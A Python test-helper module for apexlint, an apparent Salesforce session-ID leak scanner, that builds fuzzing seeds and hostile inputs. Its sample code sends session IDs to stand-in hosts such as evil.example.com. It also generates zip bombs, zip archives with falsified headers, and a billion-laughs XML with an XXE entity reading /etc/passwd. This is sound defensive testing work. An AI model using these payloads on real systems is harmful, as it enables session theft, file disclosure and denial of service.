"""Inputs built to knock apexlint over: fixture seeds, byte-level mutations and hostile files.

Shared by the robustness, property and determinism tests and by the atheris harness. Every
hostile file is generated in memory and stays small on disk (the zip bomb declares 200 MB
and weighs about 200 KB), so the tests need nothing beyond `fixtures/` and no network.
"""

from __future__ import annotations

import io
import json
import signal
import struct
import time
import zipfile
from collections.abc import Iterator, Sequence
from contextlib import contextmanager
from functools import cache
from pathlib import Path

from hypothesis import strategies as st

from apexlint.findings import Finding, ScanResult
from apexlint.ir import FileKind

REPO = Path(__file__).resolve().parents[2]
FIXTURES = REPO / "fixtures"
SFDX_SOURCE = "force-app/main/default"
GOOD_CLASS = FIXTURES / "vulnerable-sfdx" / SFDX_SOURCE / "classes" / "SessionLogging.cls"
GOOD_REL = f"{SFDX_SOURCE}/classes/SessionLogging.cls"
MB = 1 << 20


# -- file kinds and seeds ---------------------------------------------------------------------
# suffix -> (SFDX folder, kind handed to lowering, metadata type)
KINDS: dict[str, tuple[str, FileKind, str | None]] = {
    "cls": ("classes", FileKind.APEX_CLASS, None),
    "trigger": ("triggers", FileKind.APEX_TRIGGER, None),
    "page": ("pages", FileKind.VISUALFORCE_PAGE, None),
    "component": ("components", FileKind.VISUALFORCE_COMPONENT, None),
    "js": ("staticresources", FileKind.JAVASCRIPT, None),
    "workflow-meta.xml": ("workflows", FileKind.METADATA, "Workflow"),
    "object-meta.xml": ("objects", FileKind.METADATA, "CustomObject"),
}

# One small sample per kind, holding that kind's session-ID sources, so the mutation tests have
# something to mutate even while fixtures/ holds no file of that kind.
INLINE_SEEDS: dict[str, bytes] = {
    "cls": b"""public with sharing class Seed {
    @future(callout=true)
    public static void send(String url) {
        String sid = UserInfo.getSessionId();
        HttpRequest req = new HttpRequest();
        req.setEndpoint('https://api.example.com/in?sid=' + sid);
        req.setHeader('Authorization', 'Bearer ' + sid);
        new Http().send(req);
        // apexlint:disable-next-line SID003 -- reviewed
        System.debug(sid);
    }
}
""",
    "trigger": b"""trigger SeedTrigger on Order_Event__e (after insert) {
    String sid = UserInfo.getSessionId();
    System.debug('session ' + sid);
}
""",
    "page": b"""<apex:page controller="SeedController">
  <!-- {!$Api.Session_ID} -->
  <script>
    var sid = '{!$Api.Session_ID}';
    fetch('https://collector.example.com/c?s=' + sid);
    var other = "{!GETSESSIONID()}";
  </script>
  <apex:outputLink value="https://example.com/go?sid={!$Api.Session_ID}">go</apex:outputLink>
  <img src="https://img.example.com/p.gif?s={! $Api.Session_ID }"/>
</apex:page>
""",
    "component": b"""<apex:component>
  <apex:attribute name="target" type="String" description="where"/>
  <script>window.location = '{!target}?sid=' + '{!$Api.Session_ID}';</script>
</apex:component>
""",
    "js": b"""(function () {
  var sid = sforce.connection.sessionId;
  var other = window.__sfdcSessionId;
  // apexlint:disable-next-line SID002 -- vendor endpoint approved
  fetch('https://evil.example.com/c?s=' + sid, { headers: { Authorization: 'Bearer ' + other } });
  new Image().src = 'https://pixel.example.com/p?s=' + encodeURIComponent(sid);
})();
""",
    "workflow-meta.xml": b"""<?xml version="1.0" encoding="UTF-8"?>
<Workflow xmlns="http://soap.sforce.com/2006/04/metadata">
    <outboundMessages>
        <fullName>Notify</fullName>
        <apiVersion>59.0</apiVersion>
        <endpointUrl>https://hooks.example.com/in</endpointUrl>
        <includeSessionId>true</includeSessionId>
        <name>Notify</name>
    </outboundMessages>
</Workflow>
""",
    "object-meta.xml": b"""<?xml version="1.0" encoding="UTF-8"?>
<CustomObject xmlns="http://soap.sforce.com/2006/04/metadata">
    <webLinks>
        <fullName>Open_Portal</fullName>
        <linkType>url</linkType>
        <url>https://portal.example.com/open?sid={!$Api.Session_ID}&amp;id={!Account.Id}</url>
    </webLinks>
    <fields>
        <fullName>Link__c</fullName>
        <formula>HYPERLINK(&quot;https://x.example.com/?s=&quot; &amp; GETSESSIONID(), &quot;go&quot;)</formula>
    </fields>
</CustomObject>
""",
}


def suffix_kind(name: str) -> str | None:
    """The KINDS key a file name belongs to, longest suffix first."""
    for suffix in sorted(KINDS, key=len, reverse=True):
        if name.endswith("." + suffix):
            return suffix
    return None


@cache
def seeds(suffix: str) -> tuple[tuple[str, bytes], ...]:
    """(name, bytes) of every fixture file of this kind, then the inline sample."""
    found = sorted(p for p in FIXTURES.rglob(f"*.{suffix}") if p.is_file()) if FIXTURES.is_dir() else []
    return (*((p.name, p.read_bytes()) for p in found), (f"Seed.{suffix}", INLINE_SEEDS[suffix]))


# -- time budgets -----------------------------------------------------------------------------
class DeadlineExceeded(BaseException):
    """Raised by the alarm; a BaseException so `except Exception` in the code under test can't eat it."""


# A budget is CPU time: on a loaded machine (CI, other jobs) wall time says little about the code
# under test. Wall time only stops a hang, at this many times the budget.
HANG_FACTOR = 10


@contextmanager
def deadline(seconds: float) -> Iterator[None]:
    """Fail fast when the code under test uses more than `seconds` of this process's CPU time
    (or hangs, `HANG_FACTOR` times that on the wall clock), instead of hanging the suite.

    The interval timers interrupt Python code between bytecodes (main thread only, where pytest
    runs tests): ITIMER_PROF counts CPU time. An alarm that lands in a finalizer is swallowed as
    "unraisable", so each repeats every 50 ms until it gets through, and the CPU time used is
    checked again on the way out.
    """
    active = [True]

    def expire(signum: int, frame: object) -> None:
        if active[0]:
            raise DeadlineExceeded(f"still running after {seconds} s of CPU time"
                                   if signum == signal.SIGPROF else f"hung: {seconds * HANG_FACTOR} s")

    previous = {s: signal.signal(s, expire) for s in (signal.SIGPROF, signal.SIGALRM)}
    start = time.process_time()
    signal.setitimer(signal.ITIMER_PROF, seconds, 0.05)
    signal.setitimer(signal.ITIMER_REAL, seconds * HANG_FACTOR, 0.05)
    try:
        yield
    finally:
        active[0] = False
        signal.setitimer(signal.ITIMER_PROF, 0)
        signal.setitimer(signal.ITIMER_REAL, 0)
        for s, handler in previous.items():
            signal.signal(s, handler)
    if time.process_time() - start > seconds:
        raise DeadlineExceeded(f"took {time.process_time() - start:.1f} s of CPU time, more than {seconds} s")


# -- byte-level mutations ---------------------------------------------------------------------
# Positions are fractions of the current length: operations stay meaningful on any seed and
# hypothesis shrinks them towards the start of the file.
_POS = st.floats(min_value=0.0, max_value=1.0, allow_nan=False)
_MAX_COPY = 8192  # a duplicated range is capped so mutated files stay small
SYNTAX_FRAGMENTS: tuple[bytes, ...] = (
    b"{!", b"}", b"{", b"(", b")", b"[", b"]", b"'", b'"', b"`", b"\\", b";", b"<", b">", b"/>",
    b"/*", b"*/", b"//", b"<!--", b"-->", b"<script>", b"</script>", b"<![CDATA[", b"]]>",
    b"<!DOCTYPE x [<!ENTITY e \"ee\">]>", b"&e;", b"&#0;", b"&#x110000;", b"\x00", b"\xff\xfe",
    b"\xef\xbb\xbf", b"\xc3", b"\r", b"\r\n", "\u2028".encode(), "\u202e".encode(), "\U0001f600".encode(),
    b"%%%NAMESPACE%%%", b"%%%NAMESPACED_ORG%%%", b"UserInfo.getSessionId()", b"{!$Api.Session_ID}",
    b"{!GETSESSIONID()}", b"sforce.connection.sessionId", b"__sfdcSessionId",
    b"<includeSessionId>true</includeSessionId>", b"// apexlint:disable-next-line SID003 --",
    b"<!-- apexlint:disable-next-line SID002 -->", b"@future", b"implements Queueable",
    b"00D000000000001!AQ0AQ0123456789abcdefghij",
)
_PAYLOAD = st.one_of(
    st.sampled_from(SYNTAX_FRAGMENTS),
    st.text(max_size=24).map(lambda s: s.encode("utf-8")),
    st.binary(max_size=24),
)
MUTATION = st.one_of(
    st.tuples(st.just("delete"), _POS, _POS),
    st.tuples(st.just("duplicate"), _POS, _POS, _POS),
    st.tuples(st.just("swap"), _POS, _POS, _POS, _POS),
    st.tuples(st.just("insert"), _POS, _PAYLOAD),
    st.tuples(st.just("truncate"), _POS),
)
MUTATIONS = st.lists(MUTATION, min_size=1, max_size=6)

Mutation = tuple[object, ...]


def mutate(data: bytes, ops: Sequence[Mutation]) -> bytes:
    for op in ops:
        data = _mutate_once(data, op)
    return data


def _at(data: bytes, fraction: object) -> int:
    return int(float(fraction) * len(data))  # type: ignore[arg-type]


def _mutate_once(data: bytes, op: Mutation) -> bytes:
    name, *args = op
    if name == "delete":
        a, b = sorted((_at(data, args[0]), _at(data, args[1])))
        return data[:a] + data[b:]
    if name == "duplicate":
        a, b = sorted((_at(data, args[0]), _at(data, args[1])))
        at = _at(data, args[2])
        return data[:at] + data[a:min(b, a + _MAX_COPY)] + data[at:]
    if name == "swap":
        p0, p1, p2, p3 = sorted(_at(data, f) for f in args)
        return data[:p0] + data[p2:p3] + data[p1:p2] + data[p0:p1] + data[p3:]
    if name == "insert":
        at = _at(data, args[0])
        return data[:at] + args[1] + data[at:]  # type: ignore[operator]
    if name == "truncate":
        return data[:_at(data, args[0])]
    raise ValueError(f"unknown mutation {name!r}")


# -- packages on disk -------------------------------------------------------------------------
def write_sfdx_package(root: Path, files: dict[str, bytes], namespace: str = "") -> Path:
    """An SFDX project at `root` holding `files` (paths relative to the project root)."""
    root.mkdir(parents=True, exist_ok=True)
    project = {"packageDirectories": [{"path": "force-app", "default": True}], "namespace": namespace,
               "sourceApiVersion": "59.0"}
    (root / "sfdx-project.json").write_text(json.dumps(project), encoding="utf-8")
    for rel, data in files.items():
        path = root / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
    return root


def source_path(name: str) -> str:
    """Where a file called `name` lives in an SFDX project (by its kind)."""
    suffix = suffix_kind(name)
    folder = KINDS[suffix][0] if suffix else "classes"
    return f"{SFDX_SOURCE}/{folder}/{name}"


def finding_key(f: Finding) -> tuple[object, ...]:
    """What must not change about a finding when unrelated files are added to the package."""
    s = f.location.span
    src = f.source.span if f.source else None
    return (f.rule_id, f.level.value, f.location.path, (s.start_line, s.start_col, s.end_line, s.end_col),
            src and (src.start_line, src.start_col, src.end_line, src.end_col), f.message,
            f.suppression is not None)


def findings_in(result: ScanResult, path_suffix: str) -> list[tuple[object, ...]]:
    return sorted(finding_key(f) for f in result.findings if f.location.path.endswith(path_suffix))


def internal_errors(result_notes: Sequence[object]) -> list[str]:
    return [n.message for n in result_notes if getattr(n, "code", "") == "internal-error"]  # type: ignore[attr-defined]


# -- hostile files ----------------------------------------------------------------------------
@cache
def zip_bomb(declared: int = 200 * MB, member: str = "js/bomb.js") -> bytes:
    """One deflated member that expands to `declared` bytes of spaces (about 1000:1)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        info = zipfile.ZipInfo(member, date_time=(2020, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        chunk = b" " * MB
        with archive.open(info, "w", force_zip64=True) as stream:
            for _ in range(declared // MB):
                stream.write(chunk)
    return buf.getvalue()


@cache
def many_member_bomb(members: int = 80, size: int = 900_000, script: bool = False) -> bytes:
    """Many members each just under the ratio floor: only the archive-wide budget stops them.

    The members hold NUL bytes (read, then skipped as binary) unless `script`: then each is a
    JavaScript file of blank lines that the lowering has to parse.
    """
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for i in range(members):
            info = zipfile.ZipInfo(f"js/part{i:03d}.js", date_time=(2020, 1, 1, 0, 0, 0))
            info.compress_type = zipfile.ZIP_DEFLATED
            filler = b"\n" * size if script else b"\x00" * size
            archive.writestr(info, b"var a" + str(i).encode() + b" = 1;\n" + filler)
    return buf.getvalue()


def _small_zip(payload: bytes, name: str = "js/app.js") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as archive:
        info = zipfile.ZipInfo(name, date_time=(2020, 1, 1, 0, 0, 0))
        info.compress_type = zipfile.ZIP_DEFLATED
        archive.writestr(info, payload)
    return buf.getvalue()


def _patch_sizes(data: bytes, *, uncompressed: int | None = None, compressed: int | None = None,
                 offset: int | None = None) -> bytes:
    """Rewrite the sizes (and local-header offset) that the local and central headers claim."""
    out = bytearray(data)
    local, central = 0, data.rfind(b"PK\x01\x02")
    if compressed is not None:
        struct.pack_into("<I", out, local + 18, compressed)
        struct.pack_into("<I", out, central + 20, compressed)
    if uncompressed is not None:
        struct.pack_into("<I", out, local + 22, uncompressed)
        struct.pack_into("<I", out, central + 24, uncompressed)
    if offset is not None:
        struct.pack_into("<I", out, central + 42, offset)
    return bytes(out)


def _patch_version(data: bytes, version: int) -> bytes:
    """Rewrite the version needed to extract that the central header claims."""
    out = bytearray(data)
    struct.pack_into("<H", out, data.rfind(b"PK\x01\x02") + 6, version)
    return bytes(out)


@cache
def lying_zips() -> dict[str, bytes]:
    """Archives whose headers lie about what they hold, or that end early."""
    big = b"var x = 1;\n" + b" " * (12 * MB)  # deflates to ~12 KB
    small = b"var sid = sforce.connection.sessionId;\n"
    honest = _small_zip(small)
    return {
        "claims-small-expands-big": _patch_sizes(_small_zip(big), uncompressed=64),
        "claims-huge-holds-little": _patch_sizes(honest, uncompressed=0xFFFF_FFFE),
        "compressed-size-past-end": _patch_sizes(honest, compressed=0x7FFF_FFFF),
        "header-offset-past-end": _patch_sizes(honest, offset=0x7FFF_0000),
        "truncated": honest[: len(honest) // 2],
        "magic-only": b"PK\x03\x04" + b"\x00" * 26,
        # "version needed to extract" 12.2: zipfile refuses the whole archive (NotImplementedError)
        "needs-a-newer-version": _patch_version(honest, 122),
    }


BILLION_LAUGHS_SECRET = "root:x:0:0"  # a line of /etc/passwd: it must never reach a report


def billion_laughs(levels: int = 10) -> bytes:
    """Metadata XML whose DTD would expand to 10**levels 'lol's, plus an external entity."""
    decls = ['<!ENTITY lol "lol">', '<!ENTITY t "true">', '<!ENTITY xxe SYSTEM "file:///etc/passwd">']
    prev = "lol"
    for i in range(1, levels):
        decls.append(f'<!ENTITY lol{i} "{("&" + prev + ";") * 10}">')
        prev = f"lol{i}"
    dtd = "\n  ".join(decls)
    return f"""<?xml version="1.0" encoding="UTF-8"?>
<!DOCTYPE lolz [
  {dtd}
]>
<Workflow xmlns="http://soap.sforce.com/2006/04/metadata">
    <outboundMessages>
        <fullName>Laugh</fullName>
        <description>&{prev};</description>
        <endpointUrl>https://hooks.example.com/in?x=&{prev};&amp;f=&xxe;</endpointUrl>
        <includeSessionId>&t;</includeSessionId>
        <name>&{prev};</name>
    </outboundMessages>
</Workflow>
""".encode()


# Deeply nested Apex: each shape is valid Apex that a recursive tree walk cannot follow.
DEEP_APEX_SHAPES: dict[str, tuple[str, str, str, int]] = {
    # name: (prefix, repeated unit, suffix built by repeating `close`, depth)
    "parentheses": ("Integer x = ", "(", ")", 5000),
    "nested-if": ("if (true) {", "if (true) {", "}", 3000),
    "nested-blocks": ("{", "{", "}", 5000),
}


def deep_apex(shape: str) -> bytes:
    """A class with one deeply nested method and one ordinary SID003 finding beside it."""
    body = _deep_body(shape)
    return (
        "public with sharing class Deep {\n"
        "    public static void logIt() {\n"
        "        System.debug('sid ' + UserInfo.getSessionId());\n"
        "    }\n"
        "    public static Object deep(Integer a, Object b, Object c) {\n"
        f"        {body}\n"
        "        return null;\n"
        "    }\n"
        "}\n"
    ).encode()


def _deep_body(shape: str) -> str:
    if shape == "plus-chain":
        return "Integer x = " + "+".join(["a"] * 100_000) + ";"
    if shape == "method-chain":
        return "Object x = b" + ".toString().trim()" * 20_000 + ";"
    if shape == "ternary-chain":
        return "Object x = " + "a > 0 ? b : " * 20_000 + "c;"
    if shape == "string-concatenation":
        return "String q = 'SELECT Id' " + "+ ', Field__c'" * 5_000 + ";"
    if shape == "else-if-chain":
        return "if (a == 0) { b = 0; }" + "".join(f" else if (a == {i}) {{ b = {i}; }}" for i in range(1, 20_000))
    prefix, unit, close, depth = DEEP_APEX_SHAPES[shape]
    if shape == "parentheses":
        return prefix + unit * depth + "1" + close * depth + ";"
    return unit * depth + close * depth


ALL_DEEP_SHAPES = (*DEEP_APEX_SHAPES, "plus-chain", "method-chain", "ternary-chain", "string-concatenation",
                   "else-if-chain")


def big_class(target_bytes: int = 5 * MB) -> bytes:
    """A generated class of about `target_bytes`: thousands of documented methods."""
    doc = "    /**\n" + "     * Generated accessor, documented like real generated code is.\n" * 12 + "     */\n"
    parts = ["public with sharing class Generated {\n"]
    size, i = len(parts[0]), 0
    while size < target_bytes:
        method = (f"{doc}    public static String m{i}(String a) {{\n        String b = a + '{i}';\n"
                  "        if (b == null) { return a; }\n        return b.trim();\n    }\n")
        parts.append(method)
        size += len(method)
        i += 1
    parts.append("}\n")
    return "".join(parts).encode()
